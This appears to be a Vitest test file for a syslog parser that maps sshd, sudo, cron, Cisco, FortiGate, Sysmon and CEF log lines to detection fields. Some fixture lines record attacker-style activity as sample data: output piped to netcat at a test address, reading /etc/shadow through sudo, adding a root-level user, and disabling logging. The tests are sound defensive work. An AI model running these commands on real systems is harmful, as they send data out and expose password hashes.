import { describe, expect, it } from 'vitest';
import { collect } from '../../../test/contract/collect.js';
import { parseSyslog } from './parse-syslog.js';
import { syslogCollector } from './syslog-collector.js';

const one = async (line: string) => {
  const { events } = await collect(syslogCollector, `${line}\n`);
  const [event] = events;
  return { event, fields: Object.fromEntries(event?.fields ?? []) };
};
const body = (text: string) => one(`Nov 24 10:00:00 ws1 ${text}`);

describe('parseSyslog', () => {
  it.each([
    [
      '<34>1 2026-11-24T10:00:00.003Z h app 7 M1 - \ufeffhi',
      { priority: 34, host: 'h', app: 'app', processId: '7', messageId: 'M1', message: 'hi' },
    ],
    [
      '<34>1 - - - - - - hi',
      { timeText: undefined, host: undefined, app: undefined, message: 'hi' },
    ],
    ['83 <34>1 - - - - - - hi', { priority: 34, message: 'hi' }],
    [
      '<13>Nov  4 10:00:00 h app[7]: hi',
      {
        priority: 13,
        timeText: 'Nov  4 10:00:00',
        host: 'h',
        app: 'app',
        processId: '7',
        message: 'hi',
      },
    ],
    ['Nov 24 10:00:00 app: hi', { host: undefined, app: 'app', message: 'hi' }],
    [
      '2026-11-24T10:00:00.1+02:00 h app: hi',
      { timeText: '2026-11-24T10:00:00.1+02:00', host: 'h', app: 'app' },
    ],
    [
      '<189>12: *Nov 24 10:00:00.123: %SYS-5-CONFIG_I: hi',
      { timeText: 'Nov 24 10:00:00.123', message: '%SYS-5-CONFIG_I: hi' },
    ],
    [
      'Nov 24 2026 10:00:00 fw : %ASA-6-302013: hi',
      { timeText: 'Nov 24 2026 10:00:00', host: 'fw', message: '%ASA-6-302013: hi' },
    ],
    ['<13>words only', { priority: 13, host: undefined, message: 'words only' }],
    ['Nov 24 10:00:00 2001:db8::1 app: hi', { host: '2001:db8::1', app: 'app' }],
  ])('reads %s', (line, parts) => {
    expect(parseSyslog(line)).toMatchObject(parts);
  });

  it.each(['words', '', '2026-11-24T10:00:00Z INFO main: started', '{"a":1}', '<999>Nov'])(
    'takes %s for no syslog',
    (line) => {
      expect(parseSyslog(line)).toBeUndefined();
    },
  );

  it('reads structured data with its escapes', () => {
    const line = parseSyslog('<1>1 - - - - - [a@1 x="1" y="q\\"\\]\\\\"][b z=""] hi');
    expect(Object.fromEntries(line?.structured ?? [])).toEqual({
      'a@1.x': '1',
      'a@1.y': 'q"]\\',
      'b.z': '',
    });
    expect(line?.message).toBe('hi');
  });
});

describe('syslogCollector', () => {
  it.each([
    [
      'sshd[7]: Accepted publickey for bob from 192.0.2.5 port 51 ssh2: RSA',
      ['sshd', 'auth', 'syslog'],
      { user: 'bob', src_ip: '192.0.2.5', src_port: '51', method: 'publickey', outcome: 'success' },
    ],
    [
      'sshd[7]: Failed password for invalid user eve from 2001:db8::1 port 51 ssh2',
      ['sshd', 'auth', 'syslog'],
      { user: 'eve', src_ip: '2001:db8::1', outcome: 'failure' },
    ],
    [
      'sudo:   bob : command not allowed ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh',
      ['sudo', 'auth', 'syslog'],
      { USER: 'root', COMMAND: '/bin/sh', reason: 'command not allowed' },
    ],
    [
      'CRON[7]: (root) CMD (id | nc 192.0.2.1 1)',
      ['cron', 'syslog'],
      { CommandLine: 'id | nc 192.0.2.1 1', User: 'root' },
    ],
    [
      'useradd[7]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh, from=none',
      ['auth', 'syslog'],
      { user: 'eve', uid: '0', action: 'user added' },
    ],
    ['systemd[1]: Started Some Unit.', ['syslog'], { action: 'Started', unit: 'Some Unit' }],
    [
      'su: pam_unix(su:session): session opened for user root(uid=0) by bob(uid=1)',
      ['auth', 'syslog'],
      { action: 'opened', user: 'root', service: 'su' },
    ],
    [
      'kernel: [1.2] [UFW BLOCK] IN=e OUT= MAC=0 SRC=192.0.2.1 DST=192.0.2.2 LEN=1 PROTO=TCP SPT=1 DPT=22',
      ['syslog'],
      { src_ip: '192.0.2.1', dst_port: '22' },
    ],
    ['clamd[7]: /x: Win.Test FOUND', ['clamav', 'syslog'], { message: '/x: Win.Test FOUND' }],
  ])('reads the message of a program: %s', async (text, services, fields) => {
    const read = await body(text);
    expect(read.event?.logsource).toMatchObject({ product: 'linux', services });
    expect(read.fields).toMatchObject(fields);
  });

  it('takes what sudo ran for a process start, and what it refused for none', async () => {
    const ran = await body(
      'sudo: bob : TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/cat /etc/shadow',
    );
    expect(ran.event?.logsource.categories).toEqual(['process_creation']);
    expect(ran.fields).toMatchObject({
      Image: '/bin/cat',
      CommandLine: '/bin/cat /etc/shadow',
      User: 'root',
      CurrentDirectory: '/home',
      ParentImage: '/usr/bin/sudo',
    });
    const refused = await body(
      'sudo: bob : a password is required ; TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/sh',
    );
    expect(refused.event?.logsource.categories).toEqual([]);
  });

  it.each([
    [
      'Cisco',
      '<189>: Nov 24 2026 10:00:00 UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:adm  logged command:no logging',
      'cisco',
      ['aaa', 'syslog'],
      { user: 'adm', mnemonic: 'CFGLOG_LOGGEDCMD' },
    ],
    [
      'FortiGate',
      '<189>date=2026-11-24 time=10:00:00 devname="fw" devid="FG1" logid="0100044546" type="event" tz="+0200" action="Add" cfgpath="system.admin"',
      'fortigate',
      ['event'],
      { action: 'Add', cfgpath: 'system.admin' },
    ],
  ])('reads %s', async (_name, line, product, services, fields) => {
    const read = await one(line);
    expect(read.event?.logsource).toMatchObject({ product, services });
    expect(read.fields).toMatchObject(fields);
    expect(read.event?.time).toMatch(/^2026-11-24T(?:10|08):00:00/);
  });

  it('reads Sysmon for Linux', async () => {
    const { event, fields } = await body(
      'sysmon: <Event><System><Provider Name="Linux-Sysmon"/><EventID>1</EventID><TimeCreated SystemTime="2026-11-24T10:00:04.5Z"/><Channel>Linux-Sysmon/Operational</Channel><Computer>h</Computer></System><EventData><Data Name="Image">/usr/bin/id</Data></EventData></Event>',
    );
    expect(event).toMatchObject({ host: 'h', time: '2026-11-24T10:00:04.500Z' });
    expect(event?.logsource).toMatchObject({ product: 'linux', categories: ['process_creation'] });
    expect(fields).toMatchObject({ Image: '/usr/bin/id', hostname: 'ws1' });
  });

  it('reads CEF of a Windows event', async () => {
    const { event, fields } = await body(
      'CEF:0|Microsoft|Microsoft Windows||Microsoft-Windows-Security-Auditing:4688|New|Low| dproc=C:\\\\a.exe cs1=a -x cs1Label=Command Line rt=1795514400000 dhost=dc1',
    );
    expect(event).toMatchObject({ host: 'dc1', time: '2026-11-24T10:00:00.000Z' });
    expect(event?.logsource).toMatchObject({
      services: ['security'],
      categories: ['process_creation'],
    });
    expect(fields).toMatchObject({ Image: 'C:\\a.exe', CommandLine: 'a -x' });
  });

  it('reads JSON within, and takes time and host from the line where it has none', async () => {
    const { event, fields } = await body('app: @cee: {"a":{"b":"c"}}');
    expect(event).toMatchObject({ host: 'ws1', time: '2026-11-24T10:00:00.000Z' });
    expect(fields).toMatchObject({ 'a.b': 'c', 'app-name': 'app' });
  });

  it('says once how it took times without a year and a zone', async () => {
    const { issues } = await collect(
      syslogCollector,
      'Nov 24 10:00:00 h a: x\nDec 24 10:00:00 h a: x\n',
    );
    expect(issues.map(({ code, message }) => [code, message])).toEqual([
      [
        'TIME_ASSUMED',
        '2 times have no year; the latest was taken that is not after 2026-11-25, when the file was last written',
      ],
      ['TIME_ASSUMED', '2 times have no zone that is known; they were read as UTC'],
    ]);
  });

  it('keeps a line that is no syslog as a message, and says so', async () => {
    const { events, issues } = await collect(
      syslogCollector,
      'Nov 24 10:00:00 h a: x\n  at main()\n',
    );
    expect(events[1]?.fields.get('message')).toBe('  at main()');
    expect(issues[0]).toMatchObject({ code: 'EVENT_INVALID', at: { line: 2 } });
  });
});
